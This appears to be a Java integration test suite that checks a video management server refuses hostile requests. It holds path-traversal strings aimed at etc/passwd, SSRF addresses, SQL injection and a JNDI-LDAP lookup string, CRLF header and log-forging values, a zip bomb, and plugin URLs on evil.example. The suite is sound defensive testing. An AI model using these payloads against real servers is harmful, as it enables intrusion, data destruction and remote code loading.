// SPDX-License-Identifier: Apache-2.0
package org.nxvms.itests.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.nxvms.itests.harness.Api;
import org.nxvms.itests.harness.Commands;
import org.nxvms.itests.harness.Waiting;

/** What people and programs send who mean the server no good: by the address, by headers, by bodies. */
abstract class HostileInput extends HostileCredentials {
    @Test
    void whatIsTooLargeTooDeepOrMeansAnotherFileIsRefused() throws Exception {
        Api api = new Api(server.httpPort());
        api.postText("/api/v1/cameras", "{\"name\":\"" + "x".repeat(2 << 20) + "\"}")
                .expect(413);
        api.postText("/api/v1/cameras", "{\"name\":" + "[".repeat(5000) + "]".repeat(5000) + "}")
                .expect(400);
        try (WebClient web = WebClient.plain(server.httpPort())) {
            assertThat(web.ask("GET", "/api/v1/health", "X-Long: " + "x".repeat(10_000)))
                    .startsWith("HTTP/1.1 431");
        }
        for (String path : List.of(
                "/.well-known/acme-challenge/..%2f..%2f..%2fkeys%2fvault.key",
                "/.well-known/acme-challenge/../../../keys/vault.key")) {
            try (WebClient web = WebClient.plain(server.httpPort())) {
                assertThat(web.askOnce("GET", path)).as(path).matches("(?s)HTTP/1.1 (400|401|404) .*");
            }
        }
    }

    @Test
    void noDownloadLeadsOutOfItsFolderInWhateverNotation() throws Exception {
        String token = "Authorization: Bearer " + new Api(server.httpPort()).token();
        for (String folder : List.of(
                "/console/",
                "/console/assets/",
                "/media/v1/segments/",
                "/media/v1/init/",
                "/media/v1/archive/",
                "/media/v1/live/",
                "/media/v1/exports/",
                "/media/v1/edge/",
                "/push/v1/",
                "/.well-known/acme-challenge/",
                "/api/v1/storage/volumes/",
                "/api/v1/plugins/")) {
            for (String up : List.of(
                    "../",
                    "%2e%2e/",
                    ".%2e/",
                    "..%2f",
                    "%2e%2e%2f",
                    "%252e%252e%252f",
                    "..%5c",
                    "..;/",
                    "..%c0%af",
                    "..%00/",
                    "%00../")) {
                String path = folder + up.repeat(8) + "etc/passwd";
                // The console answers with its page where a name looks like one of its routes.
                String refusals = folder.startsWith("/console/") ? "200|400|404" : "400|404";
                try (WebClient web = WebClient.plain(server.httpPort())) {
                    assertThat(web.askOnce("GET", path, token))
                            .as(path)
                            .matches("(?s)HTTP/1.1 (" + refusals + ") .*")
                            .doesNotContain("root:");
                }
            }
        }
    }

    @Test
    void noCameraIsWhereOnlyTheMachineItselfMayAsk() {
        Api api = new Api(server.httpPort());
        for (String host : List.of("169.254.169.254", "[::ffff:a9fe:a9fe]", "2852039166", "0.0.0.0", "[ff02::1]")) {
            Map<String, Object> draft =
                    Map.of("name", "Gate", "driver", "rtsp", "address", "rtsp://u:hidden@" + host + "/1");
            for (String path : List.of("/api/v1/cameras", "/api/v1/cameras/probe", "/api/v1/cameras/setup")) {
                Api.Answer answer = api.post(path, draft).expect(422);
                JsonNode problem = answer.json();
                assertThat(problem.get("type").asText()).as(host).isEqualTo("/problems/validation");
                assertThat(problem.get("errors").get(0).get("field").asText()).isEqualTo("address");
                assertThat(problem.toString()).doesNotContain("hidden");
            }
        }
    }

    @Test
    void textsAreTextsToTheDatabase() {
        Api api = new Api(server.httpPort());
        String hostile = "'; DELETE FROM app_user; -- %_\\\"${jndi:ldap://192.0.2.1/x}";
        String camera = api.post(
                        "/api/v1/cameras",
                        Map.of("name", hostile, "driver", "rtsp", "address", "rtsp://192.0.2.1/1", "enabled", false))
                .expect(201)
                .json()
                .get("id")
                .asText();
        assertThat(api.get("/api/v1/cameras/" + camera)
                        .expect(200)
                        .json()
                        .get("name")
                        .asText())
                .isEqualTo(hostile);
        for (String asked : List.of(
                "/api/v1/cameras?filter=",
                "/api/v1/audit?user=",
                "/api/v1/audit?action=",
                "/api/v1/events?kinds=",
                "/api/v1/events?cursor=")) {
            Api.Answer answer = api.get(asked + Api.escaped(hostile));
            assertThat(answer.status()).as(asked).isIn(200, 400, 422);
        }
        assertThat(api.get("/api/v1/audit?user=" + Api.escaped("' OR '1'='1"))
                        .expect(200)
                        .json()
                        .get("items"))
                .isEmpty();
        api.login("' OR '1'='1", "' OR '1'='1").expect(401);
        assertThat(api.get("/api/v1/users").expect(200).json().get("items")).isNotEmpty();
        api.delete("/api/v1/cameras/" + camera).expect(204);
    }

    @Test
    void strangersDoNotLearnWhoHasAnAccount() {
        Api api = new Api(server.httpPort());
        Api.Answer known = api.login("admin", "not-the-password");
        Api.Answer unknown = api.login("nobody-of-that-name", "not-the-password");
        assertThat(known.status()).isEqualTo(401).isEqualTo(unknown.status());
        assertThat(known.json()).isEqualTo(unknown.json());
    }

    @Test
    void whatStrangersSendMakesNoLineOfAnAnswerOrOfTheLog() throws Exception {
        for (String path : List.of(
                "/console%0d%0aSet-Cookie:%20a=b", "/%0d%0aSet-Cookie:%20a=b", "/console?x=%0d%0aSet-Cookie:a=b")) {
            try (WebClient web = WebClient.plain(server.httpPort())) {
                assertThat(web.askOnce("GET", path).lines()).as(path).noneMatch(line -> line.startsWith("Set-Cookie"));
            }
        }
        Api api = new Api(server.httpPort());
        for (String path : List.of("/api/v1/roles", "/api/v1/storage/volumes")) {
            Api.Answer refused = api.post(
                    path,
                    path.endsWith("roles")
                            ? Map.of("name", "guard\r\nSet-Cookie: a=b", "permissions", List.of("view_live"))
                            : Map.of("name", "disk\r\nSet-Cookie: a=b", "path", "/nowhere"));
            assertThat(refused.expect(422).response().headers().allValues("set-cookie"))
                    .as(path)
                    .isEmpty();
        }
        api.login("nobody\n2026-01-01T00:00:00 forged line\r\u0085\u2028forged too", "x")
                .expect(401);
        try (WebClient web = WebClient.plain(server.httpPort())) {
            web.ask("GET", "/api/v1/cameras%0aforged%20address", "User-Agent: a\u0085forged agent");
        }
        Path log = server.data().resolve("log/nxvms.log");
        Waiting.until("the refusal is in the log", 20, () -> Files.readString(log)
                .contains("Wrong user name or password for \"nobody?"));
        assertThat(Files.readString(log).split("[\\n\\r\\u0085\\u2028]"))
                .noneMatch(line -> line.startsWith("2026-01-01T00:00:00 forged") || line.startsWith("forged"));
    }

    /** As anybody would try it first: each operation of the document, and what is beside it. */
    @Test
    void curlWithoutATokenIsToldToSignInEverywhereButWhereOneDoesSo() throws Exception {
        List<String> operations =
                new ArrayList<>(List.of("GET /ws/v1/live/1", "GET /ws/v1/talk/1", "GET /api", "GET /api/v1"));
        new AccessMatrix(new Api(server.httpPort()))
                .operations()
                .forEach(operation -> operations.add(operation.toString()));
        StringBuilder asked = new StringBuilder("silent\ninsecure\n");
        for (String operation : operations) {
            String[] words = operation
                    .replaceAll("\\{[^}]+}", UUID.randomUUID().toString())
                    .split(" ");
            asked.append("next\nsilent\ninsecure\noutput = /dev/null\nrequest = ")
                    .append(words[0])
                    .append("\nwrite-out = \"%{http_code} ")
                    .append(operation)
                    .append("\\n\"\nurl = \"https://127.0.0.1:")
                    .append(server.httpsPort())
                    .append(words[1])
                    .append("\"\n");
        }
        Path file = Files.writeString(
                server.data().resolveSibling("curl.txt"), asked.toString().replaceFirst("next\n", ""));
        List<String> answered = Commands.run(server.data(), "curl", "--config", file.toString())
                .lines()
                .toList();

        assertThat(answered).hasSameSizeAs(operations);
        assertThat(answered)
                .filteredOn(line -> !line.startsWith("401 "))
                .allSatisfy(line -> assertThat(AccessStories.FOR_NOBODY).contains(line.substring(4)))
                .contains("200 GET /api/v1/health");
    }

    @Test
    void noOddWayToWriteAnAddressOrAMethodLeadsPastTheGuard() throws Exception {
        for (String path : List.of(
                "//api/v1/cameras",
                "/api//v1/cameras",
                "/api/v1/./cameras",
                "/api/v1/cameras/",
                "/api/v1/cameras;x=y",
                "/api/v1/cameras?%00",
                "/API/v1/cameras",
                "/api/v1/auth/../cameras",
                "/api/v1/auth/..;/cameras",
                "/api/v1/auth/%2e%2e/cameras",
                "/api/v1/auth/..%2fcameras",
                "/api/v1/health/../cameras",
                "/console/../api/v1/cameras",
                "/console/..%2fapi/v1/cameras",
                "/push/v1/../../metrics",
                "/metrics/",
                "/metrics;x",
                "/media/v1/../v1/archive/" + UUID.randomUUID() + "/index.m3u8",
                "/system/console/bundles")) {
            for (String method : List.of("GET", "HEAD", "POST", "PUT", "DELETE")) {
                try (WebClient web = WebClient.plain(server.httpPort())) {
                    assertThat(web.askOnce(method, path, "Content-Length: 0"))
                            .as(method + " " + path)
                            .matches("(?s)HTTP/1.1 (400|401|404|405) .*")
                            .doesNotContain("items", "nxvms_");
                }
            }
        }
        for (String method : List.of("TRACE", "TRACK", "PROPFIND", "get", "X".repeat(50))) {
            for (String path : List.of("/", "/console/", "/api/v1/health", "/media/v1/segments/1", "/metrics")) {
                try (WebClient web = WebClient.plain(server.httpPort())) {
                    assertThat(web.askOnce(method, path, "Cookie: nxvms_session=of-the-caller"))
                            .as(method + " " + path)
                            .startsWith("HTTP/1.1 501")
                            .contains("/problems/method-not-allowed")
                            .doesNotContain("of-the-caller");
                }
            }
        }
    }

    @Test
    void whatUnpacksToMuchTakesNothing() throws Exception {
        byte[] zip = packed(new ByteArrayOutputStream());
        HttpResponse<String> plugin = uploaded("/api/v1/plugins/uploads?allowUnsigned=true", zip);
        assertThat(plugin.statusCode()).isEqualTo(422);
        assertThat(plugin.body()).contains("/problems/plugin-file", "unpacks to more than");
        HttpResponse<String> verdict = uploaded("/api/v1/exports/verify", zip);
        assertThat(verdict.statusCode()).isEqualTo(200);
        assertThat(verdict.body()).contains("\"intact\":false", "\"kind\":\"repacked\"", "another program packed");

        ByteArrayOutputStream json = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(json)) {
            out.write("{\"name\":\"small when packed\"}".getBytes(StandardCharsets.US_ASCII));
        }
        HttpResponse<String> body = HttpClient.newHttpClient()
                .send(
                        posted("/api/v1/cameras", json.toByteArray())
                                .header("Content-Type", "application/json")
                                .header("Content-Encoding", "gzip")
                                .build(),
                        HttpResponse.BodyHandlers.ofString());
        assertThat(body.statusCode()).as("nothing is unpacked").isEqualTo(400);
        assertThat(new Api(server.httpPort()).isReady()).isTrue();
    }

    /** {@return 576 MiB of nothing} */
    private static byte[] packed(ByteArrayOutputStream bytes) throws IOException {
        byte[] zeros = new byte[64 << 20];
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (int i = 0; i < 9; i++) {
                zip.putNextEntry(new ZipEntry("zeros" + i));
                zip.write(zeros);
            }
        }
        return bytes.toByteArray();
    }

    private HttpResponse<String> uploaded(String path, byte[] file) throws IOException, InterruptedException {
        return HttpClient.newHttpClient()
                .send(
                        posted(path, file)
                                .header("Content-Type", "application/octet-stream")
                                .build(),
                        HttpResponse.BodyHandlers.ofString());
    }

    private HttpRequest.Builder posted(String path, byte[] body) {
        Api api = new Api(server.httpPort());
        return HttpRequest.newBuilder(URI.create(api.base() + path))
                .header("Authorization", "Bearer " + api.token())
                .POST(HttpRequest.BodyPublishers.ofByteArray(body));
    }

    @Test
    void pluginsComeFromNowhereThatACallerNames() {
        Api api = new Api(server.httpPort());
        for (String url : List.of(
                "http://169.254.169.254/latest",
                "https://evil.example/driver.jar",
                "ftp://evil.example/driver.jar",
                "jar:http://evil.example/a.jar!/",
                "mvn:http://evil.example!org.evil/driver/1")) {
            assertThat(api.post("/api/v1/plugins", Map.of("url", url, "allowUnsigned", true))
                            .expect(422)
                            .json()
                            .get("type")
                            .asText())
                    .as(url)
                    .isEqualTo("/problems/plugin-source");
        }
    }
}
